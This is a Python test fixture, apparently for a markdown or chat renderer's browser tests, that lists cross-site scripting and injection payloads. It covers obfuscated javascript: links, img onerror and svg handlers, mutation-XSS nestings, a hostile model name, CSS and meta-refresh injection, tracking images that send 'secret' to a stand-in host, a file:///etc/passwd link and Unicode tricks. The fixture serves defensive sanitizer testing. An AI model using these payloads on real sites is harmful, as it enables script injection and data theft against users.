r"""T10, T14: a corpus of hostile content. Every script in it leaves a mark; every address in it is somebody else's."""

from tests.browser.witness import MARK

ELSEWHERE = "canary.example"
SCRIPT = f"window.{MARK}=1;alert(document.domain)"

# Offered by the system of these tests, because the names of models come from whoever runs the provider.
# The catalogue takes no spaces in it; slashes part the attributes of a tag as well.
MODEL_NAME = f'"><img/src=x/onerror={MARK}=1>'

LINKS = (
    f"[a link](javascript:{SCRIPT})",
    f"[a link](JaVaScRiPt:{SCRIPT})",
    f"[a link](&#106;avascript:{SCRIPT})",
    f"[a link](javascript&colon;{SCRIPT})",
    f"[a link](java\tscript:{SCRIPT})",
    f"[a link](\x01javascript:{SCRIPT})",
    f"[a link](<javascript:{SCRIPT}>)",
    f"[a link](vbscript:{SCRIPT})",
    f"[a link](data:text/html,<script>{SCRIPT}</script>)",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[a link](blob:https://{ELSEWHERE}/1)",
    "[a link](file:///etc/passwd)",
    f"[a link][reference]\n\n[reference]: javascript:{SCRIPT}",
    f'[a link](https://{ELSEWHERE}/ "\\" onmouseover={SCRIPT} x=\\"")',
    f"<javascript:{SCRIPT}>",
    f"[https://parley.example](https://user:secret@{ELSEWHERE}/)",
    f"[](javascript:{SCRIPT})",
    f"[![image](https://{ELSEWHERE}/a.png)](javascript:{SCRIPT})",
    f"javascript:{SCRIPT}",
    f"www.{ELSEWHERE} and https://{ELSEWHERE}/?q=<script>{SCRIPT}</script>",
    f"[a link](//{ELSEWHERE}/no-protocol)",
    f"[a note][^1]\n\n[^1]: [back](javascript:{SCRIPT})",
)
IMAGES = (
    f"![image](https://{ELSEWHERE}/pixel.png?q=secret)",
    f"![image][leak]\n\n[leak]: https://{ELSEWHERE}/reference.png",
    f"![image](//{ELSEWHERE}/no-protocol.png)",
    f"![image](javascript:{SCRIPT})",
    f"![image](data:image/svg+xml,<svg onload='{SCRIPT}'>)",
    f'![" onerror="{SCRIPT}](x)',
    "![image](/api/auth/auth/logout)",
    f"![image](<https://{ELSEWHERE}/a b.png> 'title')",
)
HTML = (
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT SRC=//{ELSEWHERE}/x.js></SCRIPT>",
    f"<img src=x onerror={SCRIPT}>",
    f'<img src="https://{ELSEWHERE}/html.png">',
    f"<svg onload={SCRIPT}><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}></style></table></mtext></math>",
    f"<iframe src='javascript:{SCRIPT}'></iframe><iframe srcdoc='<script>{SCRIPT}</script>'></iframe>",
    f"<video poster=https://{ELSEWHERE}/poster.png><source onerror={SCRIPT}></video>",
    f"<details open ontoggle={SCRIPT}><summary>open</summary></details>",
    f"<form action=https://{ELSEWHERE}><input autofocus onfocus={SCRIPT}><button>go</button></form>",
    f"<link rel=stylesheet href=https://{ELSEWHERE}/x.css><link rel=prefetch href=https://{ELSEWHERE}/p>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'>",
    f"<base href=https://{ELSEWHERE}/>",
    f"<style>@import url(https://{ELSEWHERE}/x.css); body {{ display: none }}</style>",
    f"<p style='background: url(https://{ELSEWHERE}/css.png)' onclick={SCRIPT}>text</p>",
    f"<object data=https://{ELSEWHERE}/o></object><embed src=https://{ELSEWHERE}/e>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"</textarea></title></style></script><img src=x onerror={SCRIPT}>",
    f"&lt;img src=x onerror={SCRIPT}&gt; &#60;script&#62;{SCRIPT}&#60;/script&#62;",
)
BLOCKS = (
    f"```html\n<script>{SCRIPT}</script>\n```",
    f'```"><img/src=x/onerror={SCRIPT}>\ncode\n```',
    f'```mermaid\ngraph TD; A[<img src=x onerror={SCRIPT}>]-->B; click A "javascript:{SCRIPT}"\n```',
    f"$$\\href{{javascript:{SCRIPT}}}{{x}} \\includegraphics{{https://{ELSEWHERE}/tex.png}}$$",
    f"| <img src=x onerror={SCRIPT}> | [a link](javascript:{SCRIPT}) |\n|---|---|\n| `<b>` | ![i](//{ELSEWHERE}/t) |",
    f"{'> ' * 60}[deep](javascript:{SCRIPT})",
    f"{'- ' * 40}<img src=x onerror={SCRIPT}>",
    f"- [ ] <input onfocus={SCRIPT} autofocus>",
    f"{'*' * 300}{'[' * 300}(javascript:{SCRIPT}){'_' * 300}",
)
SHAPES = (
    "long" * 1_500,
    f"https://{ELSEWHERE}/" + "a" * 1_500,
    "\u202egnp.tnuocca/moc.elpmaxe\u202c and \u2066hidden\u2069 \u200b\u200d\ufeff",
    "Z\u0351\u036b\u0343" + "\u0300" * 600 + "algo",
    "|" + " wide |" * 80 + "\n|" + "---|" * 80 + "\n" + ("|" + " cell |" * 80 + "\n") * 3,
    "# " + "heading " * 200,
    "```\n" + "x" * 3_000 + "\n```",
)
PAYLOADS = LINKS + IMAGES + HTML + BLOCKS + SHAPES
